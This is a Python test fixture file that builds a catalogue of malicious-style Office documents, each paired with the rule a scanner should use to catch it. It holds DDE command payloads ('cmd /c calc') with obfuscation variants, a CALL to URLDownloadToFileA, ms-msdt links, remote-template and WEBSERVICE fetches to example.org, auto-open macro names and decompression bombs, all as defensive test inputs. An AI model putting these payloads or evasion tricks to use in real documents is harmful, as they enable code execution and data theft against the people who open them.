"""Office files that do something when they are opened or clicked, one for each way we know of."""

from collections.abc import Mapping

from lp_planner.interchange import office_parts as says
from lp_planner.interchange import packages
from tests.interchange.hostile import (
    FAMILY,
    Made,
    archive,
    content_types,
    excel,
    relations,
    with_parts,
    word,
)

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
STRANGE = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
P = 'xmlns="http://schemas.openxmlformats.org/presentationml/2006/main"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
PLAIN = "word/document.xml"


def document(content: str, name: str = PLAIN) -> bytes:
    """A Word document whose text is ``content``."""
    text = f"<w:document {W} {STRANGE}><w:body><w:p>{content}</w:p></w:body></w:document>"
    return with_parts(word(), {name: text})


def field(*pieces: str, mark: str = "instrText") -> bytes:
    """A document with a field whose instruction stands in these pieces."""
    runs = "".join(f"<w:r><w:{mark}>{piece}</w:{mark}></w:r>" for piece in pieces)
    return document(BEGIN + runs + END)


def sheet(content: str, **attributes: str) -> bytes:
    """A workbook whose sheet holds ``content``."""
    more = "".join(f' {name}="{value}"' for name, value in attributes.items())
    text = f"<worksheet {X}{more}>{content}</worksheet>"
    return with_parts(excel(), {"xl/worksheets/sheet1.xml": text})


def formula(text: str) -> bytes:
    """A workbook with one formula."""
    cell = f'<c r="A1"><f>{text}</f><v>1</v></c>'
    return sheet(f'<sheetData><row r="1">{cell}</row></sheetData>')


def defined(attributes: str, text: str = "Sheet!$A$1") -> bytes:
    """A workbook with a name that stands for something."""
    names = f"<definedNames><definedName {attributes}>{text}</definedName></definedNames>"
    return with_parts(excel(), {"xl/workbook.xml": f"<workbook {X}>{names}</workbook>"})


def related(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word document that says it belongs together with something."""
    return with_parts(word(), {"word/_rels/document.xml.rels": relations(kind, target, mode)})


def part(name: str, content: bytes | str) -> bytes:
    """A Word document with one more part."""
    return with_parts(word(), {name: content})


CELL = '<c r="A1"><f>WEBSERVICE("https://example.org")</f></c>'
EBCDIC = f"<?xml version='1.0' encoding='cp037'?><worksheet {X}>{CELL}</worksheet>".encode("cp037")
HYPER = "<w:r><w:instrText>HYPER</w:instrText></w:r>"
LINK = '<w:r><w:instrText>LINK Word.Document "x.docx"</w:instrText></w:r>'

OFFICE: Mapping[str, tuple[Made, str]] = {
    # Fields.
    "DDE": (field("DDE cmd /c calc"), says.FIELD),
    "DDE in two pieces": (field("DD", "EAUTO c:\\\\cmd.exe"), says.FIELD),
    "DDE letter by letter": (field(*"DDEAUTO", " cmd"), says.FIELD),
    "DDE by numbers of letters": (field("&#68;&#x44;E cmd"), says.FIELD),
    "DDE in a CDATA": (field("<![CDATA[DDE cmd]]>"), says.FIELD),
    "DDE without a begin": (document("<w:r><w:instrText>DDE</w:instrText></w:r>"), says.FIELD),
    "DDE that never ends": (document(f"{BEGIN}<w:r><w:instrText>DDE x</w:instrText></w:r>"),
                            says.FIELD),
    "DDE in a deleted piece": (field("DDE cmd", mark="delInstrText"), says.FIELD),
    "DDE in a simple field": (document('<w:fldSimple w:instr=" dDe cmd "/>'), says.FIELD),
    "DDE in another folder": (part("odd/place.xml", f'<w:p {W}><w:fldSimple w:instr="DDE"/></w:p>'),
                              says.FIELD),
    "DDE with another prefix": (
        part(PLAIN, f'<q:p {W.replace("xmlns:w", "xmlns:q")}><q:fldSimple q:instr="DDE a"/></q:p>'),
        says.FIELD,
    ),
    "DDE in UTF-16": (
        part("word/footer.xml", f'<w:p {W}><w:fldSimple w:instr="DDE"/></w:p>'.encode("utf-16")),
        says.FIELD,
    ),
    "a field that another field spells": (
        document(f"{BEGIN}{BEGIN}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{END}"
                 f"<w:r><w:instrText> cmd</w:instrText></w:r>{END}"),
        says.FIELD,
    ),
    "a field that is another one without its deleted piece": (
        document(f"{BEGIN}<w:del>{HYPER}</w:del>{LINK}{END}"), says.FIELD,
    ),
    "a field that is another one without its added piece": (
        document(f"{BEGIN}<w:ins>{HYPER}</w:ins>{LINK}{END}"), says.FIELD,
    ),
    "a field with a piece that some programs leave out": (
        document(f"{BEGIN}<mc:AlternateContent>{HYPER}</mc:AlternateContent>{LINK}{END}"),
        says.FIELD,
    ),
    "a field of no known language": (
        part(PLAIN, '<w:p xmlns:w="urn:other"><w:instrText>PAGE</w:instrText></w:p>'), says.FIELD,
    ),
    "INCLUDEPICTURE": (field('INCLUDEPICTURE "https://example.org/a.png" \\d'), says.FIELD),
    "INCLUDETEXT": (field('INCLUDETEXT "\\\\\\\\server\\\\a.docx"'), says.FIELD),
    "LINK": (field("LINK Excel.Sheet c:\\a.xlsx"), says.FIELD),
    "IMPORT": (field("IMPORT a.png"), says.FIELD),
    "DATABASE": (field("DATABASE \\d a.mdb"), says.FIELD),
    "RD": (field("RD other.docx"), says.FIELD),
    "MACROBUTTON": (field("MACROBUTTON Run click"), says.FIELD),
    "PRINT": (field("PRINT 27"), says.FIELD),
    "HYPERLINK to a file": (field('HYPERLINK "file:///c:/a.exe"'), says.FIELD),
    "HYPERLINK to a share": (field('HYPERLINK "\\\\\\\\server\\\\a"'), says.FIELD),
    "HYPERLINK to a program": (field('HYPERLINK \\o "tip" "ms-msdt:/id"'), says.FIELD),
    # Relations.
    "a link to a file": (related("hyperlink", "file:///c:/a.exe"), says.LINKS),
    "a link to a share": (related("hyperlink", "\\\\server\\a"), says.LINKS),
    "a link to a file beside it": (related("hyperlink", "other.docx"), says.LINKS),
    "a link to a program": (related("hyperlink", "search-ms:query=a"), says.LINKS),
    "a link that hides its beginning": (related("hyperlink", "java&#10;script:alert(1)"),
                                        says.LINKS),
    "a template": (related("attachedTemplate", "https://example.org/a.dotm"), says.FETCHES),
    "a picture from elsewhere": (related("image", "https://example.org/a.png"), says.FETCHES),
    "an object from elsewhere": (related("oleObject", "https://example.org/a.docx"), says.FETCHES),
    "a frame": (related("frame", "https://example.org"), says.FETCHES),
    "a part that is elsewhere without saying so": (
        related("image", "https://example.org/a.png", "Internal"), says.FETCHES,
    ),
    "a web page inside": (related("aFChunk", "a.html", "Internal"), says.PROGRAM),
    "a document inside": (related("subDocument", "a.docx", "Internal"), says.PROGRAM),
    "ActiveX": (related("control", "activeX/activeX1.xml", "Internal"), says.PROGRAM),
    "an OLE object": (related("oleObject", "embeddings/a.bin", "Internal"), says.PROGRAM),
    "a bar with buttons": (related("ui/extensibility", "customUI/a.xml", "Internal"), says.MACROS),
    "letters to many": (related("mailMergeSource", "a.xlsx", "Internal"), says.REFRESHES),
    "an add-in": (related("webextensiontaskpanes", "a.xml", "Internal"), says.PROGRAM),
    # Parts.
    "altChunk": (document('<w:altChunk w:id="a"/>'), says.PROGRAM),
    "a web page as a part": (part("word/a.html", "<p>Hello</p>"), says.PROGRAM),
    "a web archive as a part": (part("word/afchunk.mht", "MIME-Version: 1.0"), says.PROGRAM),
    "rich text as a part": (part("word/afchunk.rtf", "{\\rtf1}"), says.PROGRAM),
    "a package inside": (part("word/embeddings/Package.bin", b"MZ"), says.PROGRAM),
    "a program inside": (part("word/a.exe", b"MZ"), says.PROGRAM),
    "a part in pieces": (part("word/document.xml/[0].piece", "<a/>"), says.PROGRAM),
    "an ActiveX part": (part("word/activeX/activeX1.xml", "<a/>"), says.PROGRAM),
    "buttons of its own": (part("customUI/customUI.xml", "<customUI/>"), says.MACROS),
    "macros": (part("word/vbaProject.bin", b"x"), says.MACROS),
    "macros under another name": (part("word/other.bin", b"x"), says.PROGRAM),
    "data of macros": (part("word/vbaData.xml", "<a/>"), says.MACROS),
    "a film": (part("ppt/media/media1.mp4", b"x"), packages.MOVING),
    "a voice": (part("ppt/media/media1.WAV", b"x"), packages.MOVING),
    "a picture that is read as a document": (
        with_parts(word(), {
            "[Content_Types].xml": content_types(f"{FAMILY}wordprocessingml.document.main+xml")
            .replace("/word/document.xml", "/word/media/a.png")
        }),
        says.DAMAGED,
    ),
    "letters to many in the settings": (part("word/settings.xml", f"<w:a {W}><w:mailMerge/></w:a>"),
                                        says.REFRESHES),
    "an object that is only a link": (
        document(f'<o:OLEObject {VML} Type="Link" ProgID="Word.Document"/>'), says.FETCHES,
    ),
    "a picture by its address": (
        document(f'<v:shape {VML}><v:imagedata src="https://example.org/a"/></v:shape>'),
        says.FETCHES,
    ),
    "a shape that leads to a file": (document(f'<v:shape {VML} href="file:///c:/a"/>'), says.LINKS),
    "a drawing with a script": (
        part("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
        says.PROGRAM,
    ),
    "a drawing that fetches": (
        part("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg">'
             '<image href="https://example.org/a"/></svg>'),
        says.FETCHES,
    ),
    "a document type": (part(PLAIN, '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), says.FETCHES),
    "a style sheet that runs": (part(PLAIN, '<?xml-stylesheet href="a.xsl"?><a/>'), says.FETCHES),
    "text that is OpenDocument as well": (
        with_parts(word(), {"META-INF/manifest.xml": "<a/>", "content.xml": "<a/>"}),
        packages.TWO_IN_ONE,
    ),
    "OpenDocument": (
        archive(mimetype="application/vnd.oasis.opendocument.text"), packages.OPEN_DOCUMENT,
    ),
    # Workbooks.
    "WEBSERVICE": (formula('WEBSERVICE("https://example.org/"&amp;A1)'), says.FORMULA),
    "WEBSERVICE by its full name": (formula('_xlfn.WEBSERVICE("https://a.org")'), says.FORMULA),
    "WEBSERVICE under another name": (formula("_xlfn.LET(w,WEBSERVICE,w(A1))"), says.FORMULA),
    "WEBSERVICE in a rule": (
        sheet("<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)</formula></cfRule>"
              "</conditionalFormatting>"),
        says.FORMULA,
    ),
    "WEBSERVICE in a list of answers": (
        sheet("<dataValidations><dataValidation><formula1>WEBSERVICE(A1)</formula1>"
              "</dataValidation></dataValidations>"),
        says.FORMULA,
    ),
    "WEBSERVICE in a name": (defined('name="a"', "WEBSERVICE(A1)"), says.FORMULA),
    "WEBSERVICE in another code": (
        with_parts(excel(), {"xl/worksheets/sheet1.xml": EBCDIC}), says.DAMAGED,
    ),
    "FILTERXML": (formula('FILTERXML(A1,"//a")'), says.FORMULA),
    "a picture by a formula": (formula('_xlfn.IMAGE("https://example.org/a")'), says.FORMULA),
    "a call": (formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,A1,A2,0,0)'), says.FORMULA),
    "RTD": (formula('RTD("a",,"b")'), says.FORMULA),
    "DDE by a formula": (formula("cmd|'/c calc'!A0"), says.FORMULA),
    "a formula that links to a file": (formula('HYPERLINK("file:///c:/a.exe","x")'), says.FORMULA),
    "a formula that links to a share": (formula('HYPERLINK("\\\\server\\a")'), says.FORMULA),
    "a formula that links to what it works out": (formula('HYPERLINK(A1&amp;"x")'), says.FORMULA),
    "a formula that reads another file": (
        formula("'\\\\server\\[a.xlsx]Sheet'!A1"), says.FORMULA,
    ),
    "a formula longer than any": (formula("1+" * 5_000 + "1"), says.UNFOLDS),
    "a name that runs when it is opened": (defined('name="_xlnm.Auto_Open"'), says.MACROS),
    "a name that is a function": (defined('name="a" function="1" xlm="1"'), says.MACROS),
    "a button for a macro": (
        with_parts(excel(), {"xl/drawings/drawing1.xml": '<sp macro="[0]!Run"/>'}), says.MACROS,
    ),
    "a button of old for a macro": (
        with_parts(excel(), {"xl/drawings/vmlDrawing1.vml":
                             "<xml><br><FmlaMacro>Run</FmlaMacro></xml>"}),
        says.MACROS,
    ),
    "a connection": (
        with_parts(excel(), {"xl/connections.xml": f"<connections {X}><connection id='1'>"
                             "<webPr url='https://example.org'/></connection></connections>"}),
        says.REFRESHES,
    ),
    "a query": (with_parts(excel(), {"xl/queryTables/queryTable1.xml": f"<queryTable {X}/>"}),
                says.REFRESHES),
    "a pivot table that refreshes": (
        with_parts(excel(), {"xl/pivotCache/pivotCacheDefinition1.xml":
                             f"<pivotCacheDefinition {X} refreshOnLoad='1'/>"}),
        says.REFRESHES,
    ),
    "another workbook": (
        with_parts(excel(), {"xl/externalLinks/externalLink1.xml": f"<externalLink {X}/>"}),
        says.REFRESHES,
    ),
    "a sheet of macros": (with_parts(excel(), {"xl/macrosheets/sheet1.xml": "<a/>"}), says.MACROS),
    "a sheet in bytes": (with_parts(excel(), {"xl/worksheets/sheet2.bin": b"x"}), says.PROGRAM),
    # Slides.
    "a click that starts a program": (
        with_parts(word(), {"ppt/slides/slide1.xml": f"<p {P} {A}><a:hlinkClick action="
                            "'ppaction://program'/></p>"}),
        says.LINKS,
    ),
    "a touch that runs a macro": (
        with_parts(word(), {"ppt/slides/slide1.xml": f"<p {P} {A}><a:hlinkHover action="
                            "'ppaction://macro?name=Run'/></p>"}),
        says.LINKS,
    ),
    # Too much.
    "elements without end": (lambda: document("<w:r/>" * 1_100_000), says.UNFOLDS),
    "elements within elements": (document("<w:r>" * 300 + "</w:r>" * 300), says.UNFOLDS),
    "too much of XML": (
        lambda: part("word/a.xml", "<a>" + " " * 51 * 1024 * 1024 + "</a>"), says.UNFOLDS,
    ),
    "many bombs in one": (
        lambda: with_parts(word(), {f"word/embeddings/S{n}.xlsx": with_parts(
            excel(), {"xl/a.png": bytes(1024 * 1024)}) for n in range(130)}),
        says.UNFOLDS,
    ),
}  # fmt: skip
"""By what it does: the file, and the sentence of the rule that has to find it."""
